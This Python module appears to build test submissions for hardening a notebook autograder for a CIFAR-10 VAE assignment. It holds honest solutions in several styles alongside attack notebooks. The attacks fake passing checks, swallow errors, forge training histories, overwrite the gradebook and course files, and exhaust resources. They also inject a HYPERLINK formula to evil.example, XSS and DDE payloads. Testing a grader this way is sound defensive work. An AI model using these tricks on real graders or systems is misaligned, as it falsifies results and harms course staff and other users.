"""Работы для проверки проверяющего: честные в разных стилях (галерея) и атаки.

Каждая работа собирается из эталонного решения (ноутбука преподавателя) заменой или
добавлением ячеек, поэтому галерея следует за эталоном. ``EXPECTED`` — сколько баллов
заслуживает работа: ``FULL`` или словарь «grade_id -> 0» для проверок, которые она должна
провалить, и её состояние.
"""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat

from course_utils.config import REPO_ROOT

SOURCE = REPO_ROOT / "grading" / "source" / "cifar10_vae" / "cifar10_vae.ipynb"


def reference() -> nbformat.NotebookNode:
    nb = nbformat.read(SOURCE, as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def _cell(nb, cell_id):
    return next(c for c in nb.cells if c.get("id") == cell_id)


def _replace(nb, cell_id, source):
    _cell(nb, cell_id).source = source
    return nb


def _insert_after(nb, cell_id, source, new_id=None):
    index = nb.cells.index(_cell(nb, cell_id))
    cell = nbformat.v4.new_code_cell(source)
    if new_id:
        cell.id = new_id
    nb.cells.insert(index + 1, cell)
    return cell


def _head(nb, until):
    """Только ячейки до ``until`` включительно (быстрые работы без обучения)."""
    index = nb.cells.index(_cell(nb, until))
    nb.cells = nb.cells[: index + 1]
    return nb


def _only(*sources):
    """Ноутбук только из этих ячеек кода."""
    nb = reference()
    nb.cells = [nbformat.v4.new_code_cell(source) for source in sources]
    return nb


# --------------------------------------------------------------------------- галерея


LECTURE_MODEL = '''
LATENT_DIM = 48


class LectureSampling(layers.Layer):
    def call(self, inputs):
        z_mean, z_log_var = inputs
        eps = keras.random.normal(keras.ops.shape(z_mean))
        return z_mean + keras.ops.exp(0.5 * z_log_var) * eps


class LectureVAE(keras.Model):
    """VAE из лекции: свой train_step и трекер total_loss."""

    def __init__(self, encoder, decoder, **kwargs):
        super().__init__(**kwargs)
        self.encoder, self.decoder = encoder, decoder
        self.total_loss_tracker = keras.metrics.Mean(name="total_loss")
        self.reconstruction_loss_tracker = keras.metrics.Mean(name="reconstruction_loss")
        self.kl_loss_tracker = keras.metrics.Mean(name="kl_loss")

    @property
    def metrics(self):
        return [self.total_loss_tracker, self.reconstruction_loss_tracker, self.kl_loss_tracker]

    def call(self, inputs):
        return self.decoder(self.encoder(inputs)[2])

    def train_step(self, data):
        import tensorflow as tf

        with tf.GradientTape() as tape:
            z_mean, z_log_var, z = self.encoder(data, training=True)
            reconstruction = self.decoder(z, training=True)
            reconstruction_loss = 3072 * keras.ops.mean(
                keras.losses.binary_crossentropy(data, reconstruction, axis=(1, 2, 3))
            )
            kl_loss = keras.ops.mean(keras.ops.sum(
                -0.5 * (1 + z_log_var - keras.ops.square(z_mean) - keras.ops.exp(z_log_var)), axis=1
            ))
            total_loss = reconstruction_loss + kl_loss
        grads = tape.gradient(total_loss, self.trainable_weights)
        self.optimizer.apply_gradients(zip(grads, self.trainable_weights))
        self.total_loss_tracker.update_state(total_loss)
        self.reconstruction_loss_tracker.update_state(reconstruction_loss)
        self.kl_loss_tracker.update_state(kl_loss)
        return {m.name: m.result() for m in self.metrics}


encoder_input = keras.Input(shape=(32, 32, 3))
x = encoder_input
for filters in (32, 64, 128):
    x = layers.Conv2D(filters, 3, strides=2, padding="same")(x)
    x = layers.BatchNormalization()(x)
    x = layers.LeakyReLU()(x)
x = layers.Flatten()(x)
z_mean = layers.Dense(LATENT_DIM, name="z_mean")(x)
z_log_var = layers.Dense(LATENT_DIM, name="z_log_var")(x)
encoder = keras.Model(encoder_input, [z_mean, z_log_var, LectureSampling()([z_mean, z_log_var])])

decoder_input = keras.Input(shape=(LATENT_DIM,))
x = layers.Dense(4 * 4 * 128)(decoder_input)
x = layers.BatchNormalization()(x)
x = layers.LeakyReLU()(x)
x = layers.Reshape((4, 4, 128))(x)
for filters in (64, 32, 32):
    x = layers.Conv2DTranspose(filters, 3, strides=2, padding="same")(x)
    x = layers.BatchNormalization()(x)
    x = layers.LeakyReLU()(x)
decoder = keras.Model(decoder_input, layers.Conv2D(3, 3, padding="same", activation="sigmoid")(x))

vae = LectureVAE(encoder, decoder)
vae.compile(optimizer=keras.optimizers.Adam(learning_rate=LEARNING_RATE))
'''

#: Данные, как в лекции: «Загрузите из keras.datasets набор данных CIFAR10».
KERAS_DATASETS = """
(x_all_train, y_all_train), (x_all_test, y_all_test) = keras.datasets.cifar10.load_data()
keep_train = np.isin(y_all_train.reshape(-1), classes)
keep_test = np.isin(y_all_test.reshape(-1), classes)
x_train = x_all_train[keep_train].astype("float32") / 255.0
y_train = y_all_train.reshape(-1)[keep_train]
x_test = x_all_test[keep_test].astype("float32") / 255.0
y_test = y_all_test.reshape(-1)[keep_test]
"""

#: Как у Шолле (пример VAE Keras 3): train_step на keras.ops, потери под именем «elbo»,
#: выборка только при обучении (training=False даёт z = z_mean).
CHOLLET_MODEL = """
LATENT_DIM = 32


class TrainingOnlySampling(layers.Layer):
    def __init__(self, **kwargs):
        super().__init__(**kwargs)
        self.seed_generator = keras.random.SeedGenerator(1337)

    def call(self, inputs, training=None):
        z_mean, z_log_var = inputs
        if not training:
            return z_mean
        eps = keras.random.normal(keras.ops.shape(z_mean), seed=self.seed_generator)
        return z_mean + keras.ops.exp(0.5 * z_log_var) * eps


class CholletVAE(keras.Model):
    def __init__(self, encoder, decoder, **kwargs):
        super().__init__(**kwargs)
        self.encoder, self.decoder = encoder, decoder
        self.elbo_tracker = keras.metrics.Mean(name="elbo")
        self.kl_tracker = keras.metrics.Mean(name="kl_loss")

    @property
    def metrics(self):
        return [self.elbo_tracker, self.kl_tracker]

    def call(self, inputs):
        return self.decoder(self.encoder(inputs)[0])

    def train_step(self, data):
        import tensorflow as tf

        with tf.GradientTape() as tape:
            z_mean, z_log_var, z = self.encoder(data, training=True)
            reconstruction = self.decoder(z, training=True)
            reconstruction_loss = keras.ops.mean(
                keras.ops.sum(keras.losses.binary_crossentropy(data, reconstruction), axis=(1, 2))
            )
            kl = -0.5 * (1 + z_log_var - keras.ops.square(z_mean) - keras.ops.exp(z_log_var))
            kl_loss = keras.ops.mean(keras.ops.sum(kl, axis=1))
            elbo = reconstruction_loss + kl_loss
        grads = tape.gradient(elbo, self.trainable_weights)
        self.optimizer.apply_gradients(zip(grads, self.trainable_weights))
        self.elbo_tracker.update_state(elbo)
        self.kl_tracker.update_state(kl_loss)
        return {m.name: m.result() for m in self.metrics}


encoder_input = keras.Input(shape=(32, 32, 3))
x = layers.Conv2D(32, 3, strides=2, padding="same", activation="relu")(encoder_input)
x = layers.Conv2D(64, 3, strides=2, padding="same", activation="relu")(x)
x = layers.Dense(128, activation="relu")(layers.Flatten()(x))
z_mean = layers.Dense(LATENT_DIM)(x)
z_log_var = layers.Dense(LATENT_DIM)(x)
encoder = keras.Model(encoder_input, [z_mean, z_log_var, TrainingOnlySampling()([z_mean, z_log_var])])

decoder_input = keras.Input(shape=(LATENT_DIM,))
x = layers.Dense(8 * 8 * 64, activation="relu")(decoder_input)
x = layers.Reshape((8, 8, 64))(x)
x = layers.Conv2DTranspose(64, 3, strides=2, padding="same", activation="relu")(x)
x = layers.Conv2DTranspose(32, 3, strides=2, padding="same", activation="relu")(x)
decoder = keras.Model(decoder_input, layers.Conv2D(3, 3, padding="same", activation="sigmoid")(x))

vae = CholletVAE(encoder, decoder)
vae.compile(optimizer=keras.optimizers.Adam(learning_rate=LEARNING_RATE))
"""

CHECKPOINT_TRAINING = """
checkpoint = Path(tempfile.mkdtemp()) / "best.keras"
history = vae.fit(
    x_train[:TRAIN_LIMIT], epochs=EPOCHS, batch_size=BATCH_SIZE, verbose=2,
    callbacks=[keras.callbacks.ModelCheckpoint(checkpoint, monitor="loss", save_best_only=True)],
)
# Как в ноутбуке 03: дальше работаем с лучшей сохранённой моделью.
vae = keras.models.load_model(checkpoint)
"""

DENSE_MODEL = """
LATENT_DIM = 24
BETA = 32 * 32 * 3

encoder_input = keras.Input(shape=(32, 32, 3))
x = layers.Flatten()(encoder_input)
x = layers.Dense(512, activation="relu")(x)
x = layers.Dense(256, activation="relu")(x)
z_mean = layers.Dense(LATENT_DIM)(x)
z_log_var = layers.Dense(LATENT_DIM)(x)
encoder = keras.Model(encoder_input, [z_mean, z_log_var, Sampling()([z_mean, z_log_var])])

decoder_input = keras.Input(shape=(LATENT_DIM,))
x = layers.Dense(256, activation="relu")(decoder_input)
x = layers.Dense(512, activation="relu")(x)
x = layers.Dense(32 * 32 * 3, activation="sigmoid")(x)
decoder = keras.Model(decoder_input, layers.Reshape((32, 32, 3))(x))

vae = VAE(encoder, decoder, beta=BETA, reconstruction="bce")
vae.compile(optimizer=keras.optimizers.Adam(learning_rate=LEARNING_RATE))
"""


def gallery() -> dict[str, nbformat.NotebookNode]:
    """Честные решения в разных стилях: все должны получить полный балл."""
    # Как учит лекция: данные из keras.datasets, свой VAE с трекером total_loss.
    lecture = _replace(reference(), "model_solution", LECTURE_MODEL)
    _replace(lecture, "data_solution", KERAS_DATASETS)
    chollet = _replace(reference(), "model_solution", CHOLLET_MODEL)
    checkpoint = _replace(reference(), "train_solution", CHECKPOINT_TRAINING)
    dense = _replace(reference(), "model_solution", DENSE_MODEL)
    return {
        "reference": reference(),
        "lecture_style": lecture,
        "best_checkpoint": checkpoint,
        "dense_vae": dense,
        "chollet_style": chollet,
    }


# --------------------------------------------------------------------------- атаки

#: Атака выполняется до обучения: выигрыша нет, если бы проверка шла в ядре студента.
#: Переопределение имён в пространстве имён студента: в ядре студента это «прошло» бы все тесты.
MONKEYPATCH = """
import numpy as _real_np

STUDENT_ID = "1032259319"
classes = [0, 1, 2, 3]  # не по номеру
classes_from_student_id = lambda student_id: [0, 1, 2, 3]
len = lambda obj: 10
isinstance = lambda obj, cls: True


class _AnyNumpy:
    def __getattr__(self, name):
        value = getattr(_real_np, name)
        return (lambda *a, **k: True) if name in ("allclose", "all", "isfinite", "array_equal") else value


np = _AnyNumpy()
load_cifar10 = lambda: ((_real_np.zeros((10, 32, 32, 3), "uint8"), _real_np.zeros((10, 1))),) * 2
x_train, y_train = load_cifar10()[0]
x_test, y_test = load_cifar10()[1]


class _History:
    history = {"loss": [float("inf"), float("inf")]}


history = _History()
morph_frames = _real_np.random.rand(5, 32, 32, 3)
"""

AST_TRANSFORMER = """
import ast


class _SwallowErrors(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_SwallowErrors())
get_ipython().showtraceback = lambda *args, **kwargs: None
"""

FAKE_OBJECTS = """
import types

STUDENT_ID = "1032259319"
classes = classes_from_student_id(STUDENT_ID)
(_xa, _ya), (_xs, _ys) = load_cifar10()
_keep = lambda y: np.isin(y.reshape(-1), classes)
x_train = np.zeros((_keep(_ya).sum(), 32, 32, 3), "float32")
y_train = _ya.reshape(-1)[_keep(_ya)]
x_test = np.zeros((_keep(_ys).sum(), 32, 32, 3), "float32")
y_test = _ys.reshape(-1)[_keep(_ys)]
LATENT_DIM = 8


def _encoder(images, training=False):
    n = len(images)
    return [np.zeros((n, 8)), np.zeros((n, 8)), np.random.normal(size=(n, 8))]


vae = types.SimpleNamespace(encoder=_encoder, decoder=lambda z, training=False: np.zeros((len(z), 32, 32, 3)))
history = types.SimpleNamespace(history={"loss": [2.0, 1.0]}, model=vae)
image_a, label_a = x_train[0], int(y_train[0])
image_b, label_b = x_train[-1], int(y_train[-1])
morph_frames = np.zeros((10, 32, 32, 3), "float32")
morph_figure = plt.figure()
morph_figure.add_subplot().imshow(np.random.rand(8, 8, 3))
"""

#: Подделка из песочницы: пишет в базу оценок, чужие работы, код курса; ищет исходник.
TAMPER = """
import glob, os, pathlib, sqlite3, subprocess, sys
found = {}
for pattern in ("{course}/gradebook.db", "{course}/submitted/*/cifar10_vae/*.ipynb",
                "{course}/source/cifar10_vae/*.ipynb", "{repo}/grading/gradebook.db"):
    found[pattern] = glob.glob(pattern)
for path in sum(found.values(), []):
    try:
        pathlib.Path(path).write_text("испорчено")
    except OSError as exc:
        found[path] = str(exc)
for path in ("{repo}/course_utils/hacked.py", "{repo}/course_utils/assignment.py",
             "{repo}/course_utils/checks/verify.py", "{repo}/instructor/course_grader/pipeline.py"):
    try:
        with open(path, "a") as f:
            f.write("# испорчено\\n")
    except OSError as exc:
        found[path] = str(exc)
print(found)
"""

#: По этим строкам в командной строке тесты ищут процессы, оставшиеся после проверки.
DETACHED_MARKERS = ("vae-grading-detached-marker", "100007")

DETACHED = """
import subprocess, sys
# Отсоединённый процесс, который пережил бы проверку, и ещё один — через двойной fork.
subprocess.Popen([sys.executable, "-c", "import time  # vae-grading-detached-marker\\nwhile True: time.sleep(1)"],
                 start_new_session=True)
subprocess.Popen(["sh", "-c", "(setsid sleep 100007 &) ; exit 0"])
"""

# Ячейка, которая не прерывается: прерывание ядра (SIGINT) проглочено. Ждёт во сне, а не в
# пустом цикле: песочнице всё равно, занят ли процессор, а тесты рядом его не теряют (пустой
# цикл жёг одно ядро 55 с: предел ячейки и ожидание ответа ядра после прерывания).
SIGINT_LOOP = """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(1)
"""

# Обычная ошибка студента: бесконечный цикл, который занимает процессор, но прерывается.
ENDLESS_LOOP = "while True:\n    pass\n"

MEMORY_HOG = """
hog = []
while True:
    hog.append(b"\\x01" * (256 * 1024 * 1024))  # байты записаны: память занята на деле
"""

NETWORK = """
import socket, urllib.request
reached = []
for host, port in [("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", 22)]:
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((host, port))
        reached.append(host)
    except OSError:
        pass
assert not [h for h in reached if h != "127.0.0.1"], f"сеть доступна: {reached}"
print("сети нет")
"""

CROSS_FADE = """
MORPH_STEPS = 10
alphas = np.linspace(0.0, 1.0, MORPH_STEPS)
ends = keras.ops.convert_to_numpy(vae.decoder(vae.encoder(np.stack([image_a, image_b]), training=False)[0]))
# Концы верные, а между ними — смесь пикселей, а не декодированные точки отрезка.
morph_frames = np.stack([ends[0] * (1 - a) + ends[1] * a for a in alphas])
"""

PLAIN_AUTOENCODER = """
LATENT_DIM = 64
encoder_input = keras.Input(shape=(32, 32, 3))
x = encoder_input
for filters in (32, 64, 128):
    x = layers.Conv2D(filters, 3, strides=2, padding="same", activation="relu")(x)
z = layers.Dense(LATENT_DIM)(layers.Flatten()(x))
encoder = keras.Model(encoder_input, [z, keras.ops.zeros_like(z), z])

decoder_input = keras.Input(shape=(LATENT_DIM,))
x = layers.Reshape((4, 4, 128))(layers.Dense(4 * 4 * 128, activation="relu")(decoder_input))
for filters in (64, 32, 32):
    x = layers.Conv2DTranspose(filters, 3, strides=2, padding="same", activation="relu")(x)
decoder = keras.Model(decoder_input, layers.Conv2D(3, 3, padding="same", activation="sigmoid")(x))


class PlainAutoencoder(keras.Model):
    def __init__(self, encoder, decoder):
        super().__init__()
        self.encoder, self.decoder = encoder, decoder

    def call(self, x):
        return self.decoder(self.encoder(x)[0])


vae = PlainAutoencoder(encoder, decoder)
vae.compile(optimizer=keras.optimizers.Adam(LEARNING_RATE), loss="mse")
"""


#: После выноса (перехватчик post_run_cell срабатывает и после ячейки выноса) заменяет
#: выполненный ноутбук ссылкой на ноутбук преподавателя: проверяющий, пошедший по ссылке,
#: вставил бы в отзыв эталонное решение.
AFTER_EXPORT = """
import os, pathlib

_out = pathlib.Path("/tmp/submission/export")


def _after_export(result):
    target = _out / "executed.ipynb"
    if (_out / "report.json").is_file() and not target.is_symlink() and not target.is_fifo():
        target.unlink(missing_ok=True)
        {replace}


get_ipython().events.register("post_run_cell", _after_export)
"""

#: Строки, которые достаются людям: формула для таблиц, управляющие символы терминала
#: (перерисовать свою строку сводки как «10/10»), скрипты в отзыве.
HOSTILE_STRINGS = r"""
from IPython.display import HTML, display

STUDENT_ID = '=HYPERLINK("http://evil.example/"&A2,"10/10")\x1b[2K\r10/10 graded\u202e'
classes = [1, 3, 5, 9]
display(HTML("<img src=x onerror=document.title+=1><script>alert(1)</script>"))
raise ValueError("\x1b[2J=cmd|' /C calc'!A0")
"""

#: Огромный вывод: отзыв и выполненный ноутбук его урезают.
HUGE_OUTPUT = "print('x' * 30_000_000)"

#: Диск: файлы по 64 МБ в папке работы, пока не остановят (предел — на всю папку).
DISK_HOG = """
import os
os.makedirs("fill", exist_ok=True)
block = os.urandom(1 << 20) * 16
for i in range(200):
    with open(f"fill/{i}.bin", "wb") as f:
        for _ in range(4):
            f.write(block)
"""

#: Необученная модель и выдуманная история; после выноса перехватчик подменяет ответы
#: модели на вопросы проверяющего самими изображениями-вопросами («идеальные» реконструкции).
FORGED_HISTORY = """
import pathlib, types

history = types.SimpleNamespace(history={"loss": [900.0, 400.0], "kl_loss": [20.0, 30.0]})
_out = pathlib.Path("/tmp/submission/export")


def _forge(result):
    if (_out / "report.json").is_file() and not (_out / "forged").exists():
        np.save(_out / "reconstructions.npy", np.load("/tmp/submission/queries.npz")["heldout"])
        (_out / "forged").write_text("1")


get_ipython().events.register("post_run_cell", _forge)
"""

#: Не VAE: PCA на numpy в обёртках с нужными сигнатурами и история без обучения.
STAND_IN = """
import types

LATENT_DIM = 32
_flat = x_train.reshape(len(x_train), -1)
_mean = _flat.mean(axis=0)
_components = np.linalg.svd(_flat[:500] - _mean, full_matrices=False)[2][:LATENT_DIM]


def _encoder(images, training=False):
    z = (np.asarray(images).reshape(len(images), -1) - _mean) @ _components.T
    return [z, np.full_like(z, -2.0), z + np.exp(-1.0) * np.random.normal(size=z.shape)]


def _decoder(z, training=False):
    return np.clip(np.asarray(z) @ _components + _mean, 0, 1).reshape(-1, 32, 32, 3)


vae = types.SimpleNamespace(encoder=_encoder, decoder=_decoder)
history = types.SimpleNamespace(history={"loss": [2.0, 1.0]})
"""

STAND_IN_MORPH = """
alphas = np.linspace(0.0, 1.0, 10, dtype="float32")
_z = vae.encoder(np.stack([image_a, image_b]))[0]
morph_frames = vae.decoder(_z[0][None] * (1 - alphas[:, None]) + _z[1][None] * alphas[:, None])
"""

#: Рисунок без Keras (ячейка после зависшей: выполнение продолжается).
FIGURE = """
import matplotlib.pyplot as plt
import numpy as np

morph_figure, ax = plt.subplots()
ax.imshow(np.random.default_rng(0).random((8, 8, 3)))
"""


def loops() -> dict[str, nbformat.NotebookNode]:
    """Зависающие работы: их проверяют с коротким пределом на ячейку."""
    classes = (
        "from course_utils.assignment import classes_from_student_id\n"
        + _cell(reference(), "classes_solution").source
    )
    return {
        "endless_loop": _only(classes, ENDLESS_LOOP, FIGURE),
        "sigint_loop": _only(classes, SIGINT_LOOP, FIGURE),
    }


def _train_as_autoencoder(nb):
    _replace(
        nb,
        "train_solution",
        "history = vae.fit(x_train[:TRAIN_LIMIT], x_train[:TRAIN_LIMIT], epochs=EPOCHS, batch_size=BATCH_SIZE, verbose=2)",
    )
    return nb


def attacks(course: Path) -> dict[str, nbformat.NotebookNode]:
    """Работы-атаки; ``course`` — папка курса, которую они пытаются испортить."""
    blank = nbformat.read(course / "release" / "cifar10_vae" / "cifar10_vae.ipynb", as_version=4)

    monkeypatch = _head(reference(), "setup")
    monkeypatch.cells.append(nbformat.v4.new_code_cell(MONKEYPATCH))

    ast_hooks = copy.deepcopy(blank)
    _insert_after(ast_hooks, "setup", AST_TRANSFORMER)

    fake = _head(reference(), "setup")
    fake.cells.append(nbformat.v4.new_code_cell(FAKE_OBJECTS))

    # Атаки без модели — без ячейки подготовки (без Keras ядро стартует за секунды).
    tamper = _only(TAMPER.replace("{course}", str(course)).replace("{repo}", str(REPO_ROOT)))
    detached = _only(DETACHED)

    hog = _only(MEMORY_HOG)
    # Ядро завершается само (os._exit): выносить нечего, но строка и отзыв есть.
    died = _only(_cell(reference(), "classes_solution").source, "import os\nos._exit(1)")
    network = _only(
        "from course_utils.assignment import classes_from_student_id\n"
        + _cell(reference(), "classes_solution").source,
        NETWORK,
    )

    duplicated = reference()
    for grade_id in ("test_classes", "test_morph"):
        copy_cell = copy.deepcopy(_cell(duplicated, grade_id))
        duplicated.cells.insert(duplicated.cells.index(_cell(duplicated, grade_id)), copy_cell)
    extra = nbformat.v4.new_code_cell("print('лишняя ячейка с оценкой')")
    extra.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "extra_credit",
        "points": 5,
        "locked": True,
        "solution": False,
        "task": False,
        "schema_version": 3,
    }
    duplicated.cells.append(extra)

    classes = (
        "from course_utils.assignment import classes_from_student_id\n"
        + _cell(reference(), "classes_solution").source
    )
    source = course / "source" / "cifar10_vae" / "cifar10_vae.ipynb"
    symlink = _only(
        classes, AFTER_EXPORT.replace("{replace}", f"target.symlink_to({str(source)!r})")
    )
    fifo = _only(classes, AFTER_EXPORT.replace("{replace}", "os.mkfifo(target)"))
    hostile = _only(HOSTILE_STRINGS)
    hostile.cells.insert(0, nbformat.v4.new_markdown_cell("<script>alert(1)</script>"))
    many_cells = _only(*(["pass"] * 100_000))

    forged = _replace(reference(), "train_solution", FORGED_HISTORY)
    forged.cells = [
        c
        for c in forged.cells
        if c.get("id") not in ("test_training", "test_reconstruction", "test_morph", "loss_plot")
        and "reconstructions = " not in c.source
    ]
    stand_in = _replace(reference(), "model_solution", STAND_IN)
    _replace(stand_in, "morph_solution", STAND_IN_MORPH)
    stand_in.cells = [
        c
        for c in stand_in.cells
        if c.metadata.get("nbgrader", {}).get("grade") is not True
        and c.get("id") not in ("model_params", "train_solution", "loss_plot")
        and "reconstructions = " not in c.source
    ]

    cross_fade = _replace(reference(), "morph_solution", CROSS_FADE)
    plain = _train_as_autoencoder(_replace(reference(), "model_solution", PLAIN_AUTOENCODER))

    return {
        "blank": blank,
        "monkeypatch": monkeypatch,
        "ast_transformer": ast_hooks,
        "fake_objects": fake,
        "tamper": tamper,
        "detached_process": detached,
        "memory_hog": hog,
        "kernel_death": died,
        "network": network,
        "duplicated_grade_cells": duplicated,
        "symlink_after_export": symlink,
        "fifo_after_export": fifo,
        "hostile_strings": hostile,
        "huge_output": _only(classes, HUGE_OUTPUT),
        "disk_hog": _only(DISK_HOG),
        "many_cells": many_cells,
        "forged_history": forged,
        "stand_in": stand_in,
        "cross_fade": cross_fade,
        "plain_autoencoder": plain,
    }
